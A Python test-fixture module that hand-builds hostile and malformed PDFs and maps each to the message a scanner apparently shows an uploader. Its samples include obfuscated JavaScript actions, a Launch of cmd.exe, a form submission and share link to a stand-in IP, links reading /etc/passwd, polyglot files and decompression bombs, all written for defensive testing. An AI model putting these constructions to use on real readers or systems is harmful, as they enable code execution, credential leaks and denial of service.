"""Hostile PDFs, each made by code, and a table of them all with what the candidate is told."""

import io
import zipfile
import zlib

from pypdf import PdfWriter
from tricks import CARRIES, DAMAGED, Maker, zipped

PAGE = {
    1: b"<< /Type /Catalog /Pages 2 0 R %s >>",
    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
}
UTF16 = "\ufeffjavascript:x".encode("utf-16-be")
EVIL = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def pdf(catalog: bytes = b"", trailer: bytes = b"", **more: bytes) -> bytes:
    """One page, written by hand; `o7=…` is object 7, `catalog` and `trailer` are further entries of those."""
    objects = {number: text.replace(b"%s", catalog) for number, text in PAGE.items()}
    objects |= {int(name[1:]): text for name, text in more.items()}
    return finished(b"%PDF-1.7\n", objects, trailer)


def finished(start: bytes, objects: dict[int, bytes], trailer: bytes = b"", prev: int | None = None) -> bytes:
    """Objects with a right cross-reference table behind `start`."""
    data, places = bytearray(start), {}
    for number, text in objects.items():
        places[number] = len(data)
        data += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    xref, rows = len(data), b"".join(b"%d 1\n%010d 00000 n \n" % place for place in places.items())
    tail = b"/Prev %d " % prev if prev is not None else b""
    data += b"xref\n0 1\n0000000000 65535 f \n%s" % rows
    data += b"trailer\n<< /Size 99 /Root 1 0 R %s%s >>\nstartxref\n%d\n%%%%EOF\n" % (tail, trailer, xref)
    return bytes(data)


def stream(payload: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(payload), entries, payload)


def in_object_stream(inner: bytes, packed: bytes | None = None, entries: bytes = b"/Filter /FlateDecode") -> bytes:
    head = b"9 0 "
    payload = zlib.compress(head + inner) if packed is None else packed
    return pdf(o8=stream(payload, b"/Type /ObjStm /N 1 /First %d %s" % (len(head), entries)))


def older_revision() -> bytes:
    """The action stands in the first version of the catalogue only; an update shows a clean one."""
    first = pdf(b"/OpenAction " + EVIL)
    clean = {1: PAGE[1].replace(b"%s", b"")}
    return finished(first, clean, prev=int(first.rsplit(b"startxref", 1)[1].split()[0]))


def page_loop() -> bytes:
    return pdf(o2=b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>", o4=b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>")


def many_pages(count: int) -> bytes:
    return pdf(o2=b"<< /Type /Pages /Kids [%s] /Count 1 >>" % b" ".join([b"<</Type/Page>>"] * count))


def encrypted(user_password: str) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(user_password, owner_password="owner", algorithm="RC4-128")
    file = io.BytesIO()
    writer.write(file)
    return file.getvalue()


def action(kind: bytes, more: bytes = b"") -> Maker:
    return lambda: pdf(b"/OpenAction << /Type /Action /S /%s %s >>" % (kind, more))


def link(address: bytes) -> Maker:
    return lambda: pdf(o4=b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI %s >> >>" % address)


def bomb_in_object_stream() -> bytes:
    return in_object_stream(b"", packed=zlib.compress(b"9 0 " + b" " * 200_000_000, 9))


def many_object_streams() -> bytes:
    packed = stream(zlib.compress(b"9 0 " + b" " * 9_000_000, 9), b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")
    return pdf(**{f"o{number}": packed for number in range(10, 60)})


SCRIPT, START, SEND = "contains a script", "can start a program or open another file", "a form that sends data"
MEDIA, BEFORE, BEHIND = "plays media", "Something stands before", "Something stands behind"

PDFS: dict[str, tuple[Maker, str]] = {
    "a script that runs when it is opened": (action(b"JavaScript", b"/JS (x)"), SCRIPT),
    "a script in the tree of names": (lambda: pdf(b"/Names << /JavaScript << /Names [(a) %s] >> >>" % EVIL), SCRIPT),
    "a script on leaving a page": (lambda: pdf(o3=PAGE[3].replace(b">>", b"/AA << /C %s >> >>" % EVIL)), SCRIPT),
    "a script spelt with escapes": (action(b"#4aava#53cript", b"/J#53 (x)"), SCRIPT),
    "a script spelt with one escape": (action(b"J#61vaScript"), SCRIPT),
    "a script behind a comment": (lambda: pdf(b"/OpenAction <</S%here\n/JavaScript%>>\n/JS(x)>>"), SCRIPT),
    "a script in an object stream": (lambda: in_object_stream(b"<< /A %s >>" % EVIL), SCRIPT),
    "a script beside a string that hides it": (lambda: in_object_stream(b"( << /A %s >>" % EVIL), SCRIPT),
    "a script in an older revision": (older_revision, SCRIPT),
    "a script in an object that nothing names": (lambda: pdf(o77=EVIL), SCRIPT),
    "a script named twice": (lambda: pdf(b"/OpenAction << /S /GoTo /S /JavaScript >>"), SCRIPT),
    "a script whose object is never closed": (lambda: pdf() + b"8 0 obj" + EVIL + b"\n%%EOF", SCRIPT),
    "a program that is started": (action(b"Launch", b"/Win << /F (cmd.exe) >>"), START),
    "another document that is opened": (action(b"GoToR", b"/F (//198.51.100.7/share/x.pdf)"), START),
    "a document inside that is opened": (action(b"GoToE", b"/T << /R /C >>"), START),
    "data that is fetched": (action(b"ImportData", b"/F (x.fdf)"), START),
    "a form that sends": (action(b"SubmitForm", b"/F (http://198.51.100.7)"), SEND),
    "a film": (action(b"Rendition", b"/OP 0"), MEDIA),
    "rich media": (lambda: pdf(o4=b"<< /Subtype /RichMedia >>"), MEDIA),
    "a sound": (action(b"Sound"), MEDIA),
    "a dynamic form": (lambda: pdf(b"/AcroForm << /XFA [] >>"), "XFA"),
    "a file inside": (lambda: pdf(o4=stream(b"MZ", b"/Type /EmbeddedFile")), CARRIES),
    "a file inside, by its names": (lambda: pdf(b"/Names << /EmbeddedFiles << >> >>"), CARRIES),
    "a file on a page": (lambda: pdf(o4=b"<< /Subtype /FileAttachment /FS << /EF << >> >> >>"), CARRIES),
    "a stream from another file": (lambda: pdf(o4=stream(b"", b"/F (/etc/passwd)")), "from another file"),
    "a link that is a script": (link(b"(javascript:alert\\(1\\))"), "not on the web"),
    "a link that is a script, broken up": (link(b"(java\\nscript:x)"), "not on the web"),
    "a link that is a script, in digits": (link(b"<6a6176617363726970743a78>"), "not on the web"),
    "a link that is a script, in UTF-16": (link(b"(%s)" % UTF16), "not on the web"),
    "a link to a file": (link(b"(file:///etc/passwd)"), "not on the web"),
    "a link to a share": (link(b"(\\\\\\\\198.51.100.7\\\\share)"), "not on the web"),
    "a link that stands elsewhere": (link(b"7 0 R"), "not on the web"),
    "a page before it": (lambda: b"<html><script>alert(1)</script>" + pdf(), BEFORE),
    "a page in its first comment": (lambda: pdf().replace(b"\n", b"\n%<script>alert(1)</script>\n", 1), "web page"),
    "a drawing in its first comment": (lambda: pdf().replace(b"\n", b"\n%<svg onload=x>\n", 1), "web page"),
    "a script file around it": (lambda: b"/*" + pdf() + b"*/alert(1)", BEFORE),
    "a picture before it (GIF)": (lambda: b"GIF89a" + b"\0" * 20 + pdf(), BEFORE),
    "a program before it": (lambda: b"MZ" + b"\0" * 60 + pdf(), BEFORE),
    "a page behind it": (lambda: pdf() + b" " * 1024 + b"<html><script>alert(1)</script>", BEHIND),
    "an archive behind it": (lambda: pdf() + zipped({"a.js": "x"}), BEHIND),
    "an archive that ends like a PDF": (lambda: pdf() + zipped({"A.class": "x"}, b"%%EOF"), "archive as well"),
    "an archive around it": (lambda: zipped({"a.pdf": pdf()}, method=zipfile.ZIP_STORED), BEFORE),
    "a password": (lambda: encrypted("secret"), "protected with a password"),
    "an owner's password": (lambda: encrypted(""), "protected with a password"),
    "encryption spelt with escapes": (lambda: pdf(trailer=b"/#45ncrypt << /Filter /Standard >>"), "protected"),
    "pages in a circle": (page_loop, DAMAGED),
    "a page that is its own parent": (lambda: pdf(o2=b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"), DAMAGED),
    "no page": (lambda: pdf(o2=b"<< /Type /Pages /Kids [] /Count 9 >>"), "has no page"),
    "201 pages": (lambda: many_pages(201), "more than 200 pages"),
    "100,000 pages that say they are one": (lambda: many_pages(100_000), "more than 200 pages"),
    "lists in lists in lists": (lambda: pdf(o3=b"[" * 100_000 + b"]" * 100_000), DAMAGED),
    "dictionaries in dictionaries": (lambda: pdf(o3=b"<< /A " * 50_000 + b">>" * 50_000), DAMAGED),
    "an object stream of 200 MB": (bomb_in_object_stream, "too large when unpacked"),
    "fifty object streams of 9 MB": (many_object_streams, "too large when unpacked"),
    "an object stream packed otherwise": (
        lambda: in_object_stream(b"<< >>", b"00>", b"/Filter /ASCIIHexDecode"), "unusual"),
    "an object stream packed twice": (
        lambda: in_object_stream(b"<< >>", zlib.compress(b"00>"), b"/Filter [/FlateDecode /ASCIIHexDecode]"),
        "unusual",
    ),
    "an object stream packed twice by Flate": (
        lambda: in_object_stream(b"", zlib.compress(zlib.compress(b"9 0 <<>>")), b"/Filter[/FlateDecode/FlateDecode]"),
        "unusual",
    ),
    "an object stream whose predictor stands elsewhere": (
        lambda: in_object_stream(b"<< >>", entries=b"/Filter /FlateDecode /DecodeParms 6 0 R"), "unusual"),
    "an object stream whose filters stand elsewhere": (
        lambda: in_object_stream(b"<< >>", entries=b"/Filter 6 0 R /Other /FlateDecode"), "unusual"),
    "an object stream with two lists of filters": (
        lambda: in_object_stream(b"<< >>", entries=b"/Filter /FlateDecode /F#69lter 6 0 R"), "unusual"),
    "an object stream that is none": (lambda: in_object_stream(b"", packed=b"no zlib"), DAMAGED),
    "300,000 objects": (lambda: pdf() + b"1 0 obj endobj " * 300_000 + b"%%EOF", "too many parts"),
    "a second half that is missing": (lambda: pdf()[:200], DAMAGED),
    "words": (lambda: b"%PDF-1.7\nI am a resume.\n%%EOF", DAMAGED),
}  # fmt: skip
